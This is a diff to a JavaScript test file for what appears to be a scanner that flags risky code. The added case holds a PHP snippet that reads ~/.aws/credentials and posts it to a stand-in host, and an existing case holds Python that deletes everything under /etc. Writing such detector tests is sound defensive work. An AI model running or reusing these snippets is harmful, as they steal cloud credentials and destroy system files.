@@ -169,6 +169,12 @@ describe('findings', () => {
         'unknown project code reads secrets or the environment and talks to the network',
       ],
     ],
+    [
+      'credentials sent off by PHP',
+      'php',
+      "<?php\n$c = curl_init('https://x.example/');\ncurl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents(getenv('HOME') . '/.aws/credentials'));\ncurl_exec($c);\n",
+      ['unknown project code reads secrets or the environment and talks to the network'],
+    ],
     ['files found by a pattern', 'python', 'import glob, os\nfor f in glob.glob("/etc/*"): os.remove(f)\n', ['delete /etc/*']],
     [
       'everything that is walked over',
